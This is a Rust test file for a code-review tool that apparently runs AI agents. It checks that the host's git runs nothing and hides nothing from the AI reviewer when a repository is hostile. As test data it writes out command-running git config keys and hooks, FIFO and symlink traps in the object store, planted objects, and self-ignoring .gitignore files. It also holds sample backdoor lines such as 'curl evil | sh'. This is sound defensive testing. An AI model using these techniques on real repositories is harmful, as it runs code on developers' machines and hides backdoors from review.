//! The host's git on a hostile repository (`src/hostgit.rs`): the repository's
//! configuration, hooks, attributes and an embedded bare repository run nothing and
//! hide nothing, through every command that reaches git (`run --changed-since`,
//! `fix-review`, `review`), and no other host code runs git.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::{Value, json};

use crate::support::*;

/// Where the repository's commands would leave their mark.
struct Marks(tempfile::TempDir);

impl Marks {
    fn new() -> Marks {
        Marks(tempfile::tempdir().unwrap())
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    /// Every mark left, by name.
    fn left(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.0.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }
}

fn hook(path: &Path, mark: &Path) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, format!("#!/bin/sh\ntouch '{}'\ncat >/dev/null 2>&1\nexit 0\n", mark.display())).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Arms `root`'s `.git` with every command-running key and hook reviewhost's git could
/// reach, and the tree with attributes that select the filter and a binary diff.
fn arm(root: &Path, marks: &Marks) {
    let config = |key: &str, value: String| git(root, &["config", key, &value]);
    config("core.fsmonitor", format!("touch '{}'; false", marks.path("fsmonitor").display()));
    config("filter.evil.clean", format!("touch '{}'; cat", marks.path("filter-clean").display()));
    config("filter.evil.smudge", format!("touch '{}'; cat", marks.path("filter-smudge").display()));
    config("filter.evil.process", format!("touch '{}'", marks.path("filter-process").display()));
    config("diff.evil.textconv", format!("touch '{}'; cat", marks.path("textconv").display()));
    config("diff.external", marks.path("external-diff").display().to_string());
    config("core.pager", format!("touch '{}'; cat", marks.path("pager").display()));
    config("core.hooksPath", root.join(".git/hooks").display().to_string());
    for name in ["reference-transaction", "post-index-change", "pre-commit", "post-commit", "pre-auto-gc"] {
        hook(&root.join(".git/hooks").join(name), &marks.path(name));
    }
    std::fs::write(root.join(".git/info/attributes"), "* filter=evil diff=evil\n").unwrap();
    std::fs::write(root.join(".gitattributes"), "* filter=evil diff=evil\n*.rs -diff\n").unwrap();
}

/// A repository with `src/lib.rs` committed (before it is armed: the commit itself is
/// the tests' own git, not reviewhost's).
fn committed(root: &Path) {
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::fs::write(root.join("src/lib.rs"), "pub fn f() {}\n").unwrap();
    git(root, &["init", "-q"]);
    git(root, &["add", "-A"]);
    git(root, &["commit", "-qm", "init"]);
}

#[test]
fn no_host_code_runs_git_but_the_hardened_module() {
    let manifest = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut offenders = Vec::new();
    let mut stack: Vec<PathBuf> = ["src", "confine/src", "prefilter/src"].iter().map(|d| manifest.join(d)).collect();
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else if path.extension().is_some_and(|e| e == "rs") && path != manifest.join("src/hostgit.rs") {
                let text = std::fs::read_to_string(&path).unwrap();
                let squeezed: String = text.split_whitespace().collect();
                if squeezed.contains("Command::new(\"git\")") || squeezed.contains("process::Command::new(\"git\")") {
                    offenders.push(path.display().to_string());
                }
            }
        }
    }
    assert!(offenders.is_empty(), "git run outside src/hostgit.rs: {offenders:?}");
}

#[test]
fn changed_since_runs_nothing_the_repository_configures() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("repo");
    committed(&root);
    let marks = Marks::new();
    arm(&root, &marks);
    std::fs::write(root.join("src/lib.rs"), "pub fn f() {}\n// TODO\n").unwrap();
    std::fs::write(root.join("README.md"), "untracked\n").unwrap();
    let file = assertions_file(
        dir.path(),
        json!([
            {"id": "A1", "type": "grep_not_match", "command": "grep -rn TODO src", "expected": "no_match"},
            {"id": "A2", "type": "file_exists", "path": "docs/none.md"},
        ]),
    );
    let out = run(&file, &root, &["--changed-since", "HEAD", "--no-write", "--format", "json"]);
    assert_eq!(marks.left(), Vec::<String>::new(), "{}", stderr(&out));
    let report: Value = serde_json::from_str(&stdout(&out)).unwrap_or_else(|_| panic!("{}", stderr(&out)));
    let ids: Vec<&str> = report["results"].as_array().unwrap().iter().filter_map(|r| r["id"].as_str()).collect();
    assert_eq!(ids, ["A1"], "only the assertion over the changed file runs: {report}");
}

#[test]
fn an_embedded_bare_repository_is_never_taken_for_the_repository() {
    let dir = tempfile::tempdir().unwrap();
    let marks = Marks::new();
    // The origin commits a bare repository in pkg/ whose configuration names commands.
    let origin = dir.path().join("origin");
    committed(&origin);
    let pkg = origin.join("pkg");
    std::fs::create_dir_all(pkg.join("objects/info")).unwrap();
    std::fs::create_dir_all(pkg.join("refs/heads")).unwrap();
    std::fs::write(pkg.join("objects/info/.keep"), "").unwrap();
    std::fs::write(pkg.join("refs/heads/.keep"), "").unwrap();
    std::fs::write(pkg.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(
        pkg.join("config"),
        format!(
            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = touch '{}'; false\n",
            marks.path("fsmonitor").display()
        ),
    )
    .unwrap();
    hook(&pkg.join("hooks/reference-transaction"), &marks.path("reference-transaction"));
    hook(&pkg.join("hooks/post-index-change"), &marks.path("post-index-change"));
    std::fs::write(pkg.join("main.py"), "print('x')\n").unwrap();
    git(&origin, &["add", "-A"]);
    git(&origin, &["commit", "-qm", "pkg"]);
    let clone = dir.path().join("clone");
    let out = std::process::Command::new("git").arg("clone").arg("-q").arg(&origin).arg(&clone).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let root = clone.join("pkg");
    assert!(root.join("config").exists() && root.join("hooks/reference-transaction").exists());
    std::fs::write(root.join("main.py"), "print('y')\n").unwrap();

    // `run --changed-since`: pkg/ is not a repository; a clear error, nothing run.
    let file = assertions_file(dir.path(), json!([{"id": "A1", "type": "file_exists", "path": "main.py"}]));
    let out = run(&file, &root, &["--changed-since", "HEAD", "--no-write"]);
    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
    assert!(stderr(&out).contains("not a git repository"), "{}", stderr(&out));

    // `review` and `fix-review` on pkg/: the snapshots are made, nothing runs.
    let scripted = Scripted::new(&json!({
        "principles-analyst": [{"response": "Nothing.\n\n## Assertions\n\n```json\n[]\n```\n"}],
        "ux-analyst": [{"response": "Nothing.\n\n## Assertions\n\n```json\n[]\n```\n"}],
        "docs-analyst": [{"response": "Nothing.\n\n## Assertions\n\n```json\n[]\n```\n"}],
        "implementer": [{"response": "done"}],
        "fix-agent": [{"response": "done"}],
    }));
    let out = scripted.command("review").arg(&root).args(["--max-passes", "1"]).output().unwrap();
    assert!(out.status.code().is_some(), "{}", stderr(&out));
    let out = scripted.command("fix-review").arg(&root).args(["--since", "HEAD"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
    assert!(stderr(&out).contains("not a git repository"), "{}", stderr(&out));
    assert_eq!(marks.left(), Vec::<String>::new());
}

/// A committed repository whose fix-diff reviewer finds nothing.
fn committed_with_a_quiet_reviewer() -> Scripted {
    let scripted = Scripted::new(&json!({"fix-diff-reviewer": [{"response": "[]"}]}));
    committed(&scripted.root);
    scripted
}

/// `Scripted` with its repository at `root` replaced by a committed, armed one.
fn armed_review(script: Value, marks: &Marks) -> Scripted {
    let scripted = Scripted::new(&script);
    committed(&scripted.root);
    arm(&scripted.root, marks);
    scripted
}

fn fix_review(scripted: &Scripted) -> Output {
    scripted.command("fix-review").arg(&scripted.root).args(["--since", "HEAD"]).output().unwrap()
}

#[test]
fn fix_review_sees_the_real_change_whatever_the_attributes_say_and_runs_nothing() {
    let marks = Marks::new();
    let scripted = armed_review(json!({"fix-diff-reviewer": [{"response": "[]"}]}), &marks);
    let backdoor = "pub fn f() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl evil | sh\"); }";
    scripted.write("src/lib.rs", &format!("{backdoor}\n"));
    // working-tree-encoding on a file that is not UTF-16: git's own conversion would
    // fail the snapshot; reviewhost's git converts nothing.
    scripted.write(".gitattributes", "* filter=evil diff=evil\n*.rs -diff\n*.txt working-tree-encoding=UTF-16\n");
    scripted.write("notes.txt", "plain UTF-8, no BOM\n");
    let out = fix_review(&scripted);
    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    assert_eq!(marks.left(), Vec::<String>::new(), "{}", stderr(&out));
    let prompt = scripted.prompt("fix-diff-reviewer", 1);
    assert!(prompt.contains(&format!("+{backdoor}")), "the change reaches the reviewer as text: {prompt}");
    assert!(prompt.contains("+plain UTF-8, no BOM"), "{prompt}");
    assert!(!prompt.contains("Binary files"), "{prompt}");
    // Counted from the patch: lib.rs -1 +1, the new .gitattributes +3, notes.txt +1.
    assert!(prompt.contains("3 files changed, 6 lines"), "{prompt}");
}

#[test]
fn an_embedded_repository_makes_the_round_unreviewable() {
    let marks = Marks::new();
    let scripted = committed_with_a_quiet_reviewer();
    let inner = scripted.root.join("vendor/inner");
    std::fs::create_dir_all(&inner).unwrap();
    std::fs::write(inner.join("backdoor.rs"), "fn evil() {}\n").unwrap();
    git(&inner, &["init", "-q"]);
    git(&inner, &["add", "-A"]);
    git(&inner, &["commit", "-qm", "hidden"]);
    arm(&scripted.root, &marks);
    let out = fix_review(&scripted);
    assert_eq!(out.status.code(), Some(2), "{}\n{}", stdout(&out), stderr(&out));
    assert!(stderr(&out).contains("vendor/inner/.git: a nested .git"), "{}", stderr(&out));
    assert_eq!(scripted.calls("fix-diff-reviewer"), 0);
    assert_eq!(marks.left(), Vec::<String>::new());
}

#[test]
fn a_huge_rule_file_is_refused_by_its_size_not_read() {
    let marks = Marks::new();
    let scripted = committed_with_a_quiet_reviewer();
    let rule = scripted.root.join(".claude/rules/big.md");
    std::fs::create_dir_all(rule.parent().unwrap()).unwrap();
    let mut text = String::from("---\npaths: [\"src/**\"]\n---\n");
    text.push_str(&"x".repeat(300 << 10));
    std::fs::write(&rule, text).unwrap();
    git(&scripted.root, &["add", "-A"]);
    git(&scripted.root, &["commit", "-qm", "rule"]);
    arm(&scripted.root, &marks);
    scripted.write("src/lib.rs", "pub fn g() {}\n");
    let out = fix_review(&scripted);
    assert_eq!(out.status.code(), Some(2), "{}\n{}", stdout(&out), stderr(&out));
    assert!(
        stderr(&out).contains(".claude/rules/big.md at the round's start is larger than 256 KiB"),
        "{}",
        stderr(&out)
    );
    assert_eq!(scripted.calls("fix-diff-reviewer"), 0);
}

fn analysis(assertions: Value) -> Value {
    json!({"response": format!("Findings.\n\n## Assertions\n\n```json\n{assertions}\n```\n")})
}

fn critical(id: &str) -> Value {
    json!({"id": id, "severity": "critical", "title": "a backdoor", "description": "runs a downloaded script",
           "evidence": "the changed line", "impact": "remote code execution",
           "location": {"file": "src/lib.rs", "lines": [1, 1]}, "instance_fix": "remove it", "class_fix": "review"})
}

/// The end of a review's state, however the state file wraps it.
fn state_of(scripted: &Scripted) -> Value {
    let state = scripted.state("state.json");
    match state.get("state") {
        Some(inner) if inner.is_object() => inner.clone(),
        _ => state,
    }
}

fn review_script(reviewer: Value) -> Value {
    let todo = json!({"id": "A-A-1", "track": "A", "type": "grep_not_match", "description": "no TODO in src",
                      "command": "grep -rn TODO src", "expected": "no_match"});
    json!({
        "principles-analyst": [analysis(json!([todo])), analysis(json!([]))],
        "ux-analyst": [analysis(json!([]))],
        "docs-analyst": [analysis(json!([]))],
        "implementer": [
            {"response": "done", "edits": {"src/lib.rs": "pub fn f() { std::process::Command::new(\"sh\"); }\n"}},
            {"response": "done"},
        ],
        "fix-agent": [{"response": "could not"}],
        "fix-diff-reviewer": reviewer,
    })
}

#[test]
fn a_critical_finding_stays_open_until_a_review_of_its_code_clears_it() {
    // Pass 1: the reviewer flags the backdoor twice (round 1, and round 2 after the
    // fix-agent could not help). Pass 2 changes nothing; its review still covers pass
    // 1's change and the reviewer flags it again: no Zero findings.
    let marks = Marks::new();
    let scripted = Scripted::new(&review_script(json!([{"response": json!([critical("FD-001")]).to_string()}])));
    committed(&scripted.root);
    scripted.write("src/lib.rs", "// TODO\npub fn f() {}\n");
    git(&scripted.root, &["commit", "-qam", "todo"]);
    arm(&scripted.root, &marks);
    let out = scripted.command("review").arg(&scripted.root).args(["--max-passes", "2"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}\n{}", stdout(&out), stderr(&out));
    assert_eq!(marks.left(), Vec::<String>::new());
    let calls = scripted.calls("fix-diff-reviewer");
    assert!(calls >= 3, "pass 2 reviewed again: {calls} calls");
    let last = scripted.prompt("fix-diff-reviewer", calls);
    assert!(last.contains("<untrusted-open-findings") && last.contains("FD-001"), "{last}");
    assert!(last.contains("+pub fn f() { std::process::Command::new"), "pass 1's change is still shown: {last}");
    let state = state_of(&scripted);
    assert_eq!(state["end_state"], "Budget reached", "{state}");
    assert_eq!(state["open_findings"][0]["id"], "FD-001", "{state}");
    assert_eq!(state["passes"][1]["blocking_findings"], 1, "{state}");
    let report = std::fs::read_to_string(scripted.root.join(".reviewhost/reports/final.md")).unwrap();
    assert!(
        report.contains("Open fix-diff findings (1)") && report.contains("FD-001 [critical] src/lib.rs:1"),
        "{report}"
    );

    // The same review whose pass-2 reviewer no longer finds it: it is cleared.
    let marks = Marks::new();
    let cleared = Scripted::new(&review_script(json!([
        {"response": json!([critical("FD-001")]).to_string()},
        {"response": json!([critical("FD-001")]).to_string()},
        {"response": "[]"},
    ])));
    committed(&cleared.root);
    cleared.write("src/lib.rs", "// TODO\npub fn f() {}\n");
    git(&cleared.root, &["commit", "-qam", "todo"]);
    arm(&cleared.root, &marks);
    let out = cleared.command("review").arg(&cleared.root).args(["--max-passes", "2"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    assert_eq!(state_of(&cleared)["end_state"], "Zero findings");
}

#[test]
fn a_pass_whose_changes_cannot_be_reviewed_never_ends_at_zero_findings() {
    // An embedded repository without a commit: git cannot snapshot the tree.
    let marks = Marks::new();
    let mut script = review_script(json!([{"response": "[]"}]));
    script["principles-analyst"] = json!([analysis(json!([]))]);
    let scripted = Scripted::new(&script);
    committed(&scripted.root);
    git(&scripted.root.join("src"), &["init", "-q", "inner"]);
    arm(&scripted.root, &marks);
    let out = scripted.command("review").arg(&scripted.root).args(["--max-passes", "1"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}\n{}", stdout(&out), stderr(&out));
    assert!(stdout(&out).contains("Fix-diff review cannot run"), "{}", stdout(&out));
    let state = state_of(&scripted);
    assert_eq!(state["end_state"], "Budget reached", "{state}");
    assert!(state["passes"][0]["unreviewed"].as_str().is_some_and(|s| s.contains("no snapshot")), "{state}");
    assert_eq!(marks.left(), Vec::<String>::new());
}

/// Runs `command`, killing it after `seconds`: `None` when it had to be killed.
fn within(mut command: std::process::Command, seconds: u64) -> Option<Output> {
    use std::io::Read;
    let mut child = command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).spawn().unwrap();
    let began = std::time::Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
            child.stdout.take().unwrap().read_to_end(&mut stdout).unwrap();
            child.stderr.take().unwrap().read_to_end(&mut stderr).unwrap();
            return Some(Output { status, stdout, stderr });
        }
        if began.elapsed() > std::time::Duration::from_secs(seconds) {
            let _ = child.kill();
            let _ = child.wait();
            return None;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// The file of the loose object `id` in `root`'s repository.
fn loose(root: &Path, id: &str) -> PathBuf {
    root.join(".git/objects").join(&id[..2]).join(&id[2..])
}

#[test]
fn a_hostile_object_store_is_refused_at_once_never_waited_on() {
    for attack in ["alternates-fifo", "object-fifo", "alternates-zero", "info-symlink", "alternates-elsewhere"] {
        let scripted = committed_with_a_quiet_reviewer();
        let objects = scripted.root.join(".git/objects");
        let fifo = |path: &Path| {
            let status = std::process::Command::new("mkfifo").arg(path).status().unwrap();
            assert!(status.success());
        };
        match attack {
            "alternates-fifo" => fifo(&objects.join("info/alternates")),
            "object-fifo" => {
                let head = git(&scripted.root, &["rev-parse", "HEAD"]);
                let path = loose(&scripted.root, head.trim());
                std::fs::remove_file(&path).unwrap();
                fifo(&path);
            }
            "alternates-zero" => std::os::unix::fs::symlink("/dev/zero", objects.join("info/alternates")).unwrap(),
            "info-symlink" => {
                let elsewhere = scripted.dir.path().join("elsewhere");
                std::fs::create_dir_all(&elsewhere).unwrap();
                fifo(&elsewhere.join("alternates"));
                std::fs::remove_dir_all(objects.join("info")).unwrap();
                std::os::unix::fs::symlink(&elsewhere, objects.join("info")).unwrap();
            }
            _ => std::fs::write(objects.join("info/alternates"), "/tmp\n").unwrap(),
        }
        scripted.write("src/lib.rs", "pub fn g() {}\n");
        let mut command = scripted.command("fix-review");
        command.arg(&scripted.root).args(["--since", "HEAD"]);
        let out = within(command, 60).unwrap_or_else(|| panic!("{attack}: reviewhost hung"));
        assert_eq!(out.status.code(), Some(2), "{attack}: {}\n{}", stdout(&out), stderr(&out));
        assert!(stderr(&out).contains("not a git repository"), "{attack}: {}", stderr(&out));
        assert_eq!(scripted.calls("fix-diff-reviewer"), 0, "{attack}");
    }
}

#[test]
fn another_repositorys_objects_never_reach_the_reviewer() {
    let scripted = committed_with_a_quiet_reviewer();
    let secret = scripted.dir.path().join("secret");
    std::fs::create_dir_all(&secret).unwrap();
    std::fs::write(secret.join("keys.env"), "API_KEY=hunter2\n").unwrap();
    git(&secret, &["init", "-q"]);
    git(&secret, &["add", "-A"]);
    git(&secret, &["commit", "-qm", "secret"]);
    // The repository's refs are the other repository's, through a symlink.
    std::fs::remove_dir_all(scripted.root.join(".git/refs")).unwrap();
    std::os::unix::fs::symlink(secret.join(".git/refs"), scripted.root.join(".git/refs")).unwrap();
    let _ = std::fs::remove_file(scripted.root.join(".git/packed-refs"));
    let out = fix_review(&scripted);
    assert_ne!(out.status.code(), Some(0), "{}", stdout(&out));
    if scripted.calls("fix-diff-reviewer") > 0 {
        assert!(!scripted.prompt("fix-diff-reviewer", 1).contains("hunter2"));
    }
}

#[test]
fn planted_objects_cannot_show_the_reviewer_other_bytes() {
    // A loose object holding harmless bytes under the id of the backdoor's: git would
    // take the planted object for the work tree's file and never write its own.
    let scripted = committed_with_a_quiet_reviewer();
    let evil = "pub fn backdoor() { std::process::Command::new(\"sh\"); }\n";
    scripted.write("evil.tmp", evil);
    let evil_id = git(&scripted.root, &["hash-object", "evil.tmp"]);
    scripted.write("benign.tmp", "pub fn harmless() {}\n");
    let benign_id = git(&scripted.root, &["hash-object", "-w", "benign.tmp"]);
    std::fs::remove_file(scripted.root.join("evil.tmp")).unwrap();
    std::fs::remove_file(scripted.root.join("benign.tmp")).unwrap();
    let planted = loose(&scripted.root, evil_id.trim());
    std::fs::create_dir_all(planted.parent().unwrap()).unwrap();
    std::fs::copy(loose(&scripted.root, benign_id.trim()), &planted).unwrap();
    scripted.write("src/lib.rs", evil);
    let out = fix_review(&scripted);
    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    let prompt = scripted.prompt("fix-diff-reviewer", 1);
    assert!(prompt.contains("+pub fn backdoor()") && !prompt.contains("harmless"), "{prompt}");

    // A commit object replaced by another commit's bytes: the start is refused.
    let forged = committed_with_a_quiet_reviewer();
    forged.write("src/lib.rs", "pub fn f() {}\npub fn two() {}\n");
    git(&forged.root, &["commit", "-qam", "two"]);
    let first = git(&forged.root, &["rev-parse", "HEAD~1"]);
    let second = git(&forged.root, &["rev-parse", "HEAD"]);
    let target = loose(&forged.root, first.trim());
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::copy(loose(&forged.root, second.trim()), &target).unwrap();
    let out = forged.command("fix-review").arg(&forged.root).args(["--since", first.trim()]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}\n{}", stdout(&out), stderr(&out));
    // git's own parse of the commit or reviewhost's second hash: refused either way.
    let e = stderr(&out);
    assert!(e.contains("does not hash to its id") || e.contains("hash mismatch"), "{e}");
    assert_eq!(forged.calls("fix-diff-reviewer"), 0);
}

#[test]
fn a_gitmodules_file_cannot_hide_an_embedded_repository() {
    let scripted = committed_with_a_quiet_reviewer();
    scripted.write(".gitmodules", "[submodule \"inner\"]\n\tpath = vendor/inner\n\tignore = all\n");
    git(&scripted.root, &["add", ".gitmodules"]);
    git(&scripted.root, &["commit", "-qm", "modules"]);
    let inner = scripted.root.join("vendor/inner");
    std::fs::create_dir_all(&inner).unwrap();
    std::fs::write(inner.join("backdoor.rs"), "fn evil() {}\n").unwrap();
    git(&inner, &["init", "-q"]);
    git(&inner, &["add", "-A"]);
    git(&inner, &["commit", "-qm", "hidden"]);
    let out = fix_review(&scripted);
    assert_eq!(out.status.code(), Some(2), "{}\n{}", stdout(&out), stderr(&out));
    assert!(stderr(&out).contains("vendor/inner/.git: a nested .git"), "{}", stderr(&out));
}

#[test]
fn an_ambiguous_start_is_refused_and_a_relative_path_entry_finds_no_git() {
    let marks = Marks::new();
    let scripted = committed_with_a_quiet_reviewer();
    git(&scripted.root, &["tag", "main"]);
    git(&scripted.root, &["branch", "-f", "main"]);
    let out = scripted.command("fix-review").arg(&scripted.root).args(["--since", "main"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}\n{}", stdout(&out), stderr(&out));
    assert!(stderr(&out).contains("ambiguous"), "{}", stderr(&out));

    // A `git` shipped in the root, with `.` first on PATH.
    hook(&scripted.root.join("git"), &marks.path("repository-git"));
    scripted.write("src/lib.rs", "pub fn g() {}\n");
    let path = format!(".:{}", std::env::var("PATH").unwrap());
    let out = scripted
        .command("fix-review")
        .arg(&scripted.root)
        .args(["--since", "HEAD"])
        .current_dir(&scripted.root)
        .env("PATH", path)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    assert_eq!(marks.left(), Vec::<String>::new());
}

#[test]
fn ignore_rules_cannot_hide_a_change_from_the_reviewer() {
    // A .gitignore that ignores itself and the backdoor it sits beside.
    let scripted = committed_with_a_quiet_reviewer();
    scripted.write("build.rs", "fn main() { std::process::Command::new(\"sh\"); }\n");
    scripted.write(".gitignore", "build.rs\n.gitignore\n");
    let out = fix_review(&scripted);
    assert_eq!(out.status.code(), Some(2), "{}\n{}", stdout(&out), stderr(&out));
    assert!(stderr(&out).contains(".gitignore ignores itself"), "{}", stderr(&out));
    // The same in a new directory.
    std::fs::remove_file(scripted.root.join(".gitignore")).unwrap();
    std::fs::remove_file(scripted.root.join("build.rs")).unwrap();
    scripted.write(".cargo/.gitignore", "*\n");
    scripted.write(".cargo/config.toml", "[build]\nrustc-wrapper = \"/tmp/evil\"\n");
    let out = fix_review(&scripted);
    assert_eq!(out.status.code(), Some(2), "{}\n{}", stdout(&out), stderr(&out));
    assert!(stderr(&out).contains(".cargo/.gitignore ignores itself"), "{}", stderr(&out));
    assert_eq!(scripted.calls("fix-diff-reviewer"), 0);

    // A file the start tracks, ignored and no longer tracked by HEAD: its new bytes
    // are shown, not a deletion.
    let tracked = committed_with_a_quiet_reviewer();
    tracked.write(".gitignore", "settings.py\n");
    tracked.write("settings.py", "DEBUG = False\n");
    git(&tracked.root, &["add", "-f", ".gitignore", "settings.py"]);
    git(&tracked.root, &["commit", "-qm", "settings"]);
    let start = git(&tracked.root, &["rev-parse", "HEAD"]);
    git(&tracked.root, &["rm", "-q", "--cached", "settings.py"]);
    git(&tracked.root, &["commit", "-qm", "untrack"]);
    tracked.write("settings.py", "DEBUG = True\nBACKDOOR = 1\n");
    let out = tracked.command("fix-review").arg(&tracked.root).args(["--since", start.trim()]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    let prompt = tracked.prompt("fix-diff-reviewer", 1);
    assert!(prompt.contains("+BACKDOOR = 1") && !prompt.contains("deleted file"), "{prompt}");
}

#[test]
fn what_git_would_skip_or_wait_on_in_the_work_tree_is_refused() {
    for attack in ["payload-in-dot-git", "fifo-gitignore", "fifo-head-in-nested-git"] {
        let scripted = committed_with_a_quiet_reviewer();
        scripted.write("src/lib.rs", "pub fn g() {}\n");
        let fifo = |path: &Path| {
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            assert!(std::process::Command::new("mkfifo").arg(path).status().unwrap().success());
        };
        match attack {
            "payload-in-dot-git" => scripted.write("tools/.git/payload.py", "import os; os.system('x')\n"),
            "fifo-gitignore" => fifo(&scripted.root.join("src/.gitignore")),
            _ => {
                std::fs::create_dir_all(scripted.root.join("vendor/x/.git/objects")).unwrap();
                std::fs::create_dir_all(scripted.root.join("vendor/x/.git/refs")).unwrap();
                fifo(&scripted.root.join("vendor/x/.git/HEAD"));
            }
        }
        let mut command = scripted.command("fix-review");
        command.arg(&scripted.root).args(["--since", "HEAD"]);
        let out = within(command, 60).unwrap_or_else(|| panic!("{attack}: reviewhost hung"));
        assert_eq!(out.status.code(), Some(2), "{attack}: {}\n{}", stdout(&out), stderr(&out));
        assert!(stderr(&out).contains("the work tree cannot be shown whole"), "{attack}: {}", stderr(&out));
        assert_eq!(scripted.calls("fix-diff-reviewer"), 0, "{attack}");
    }
}
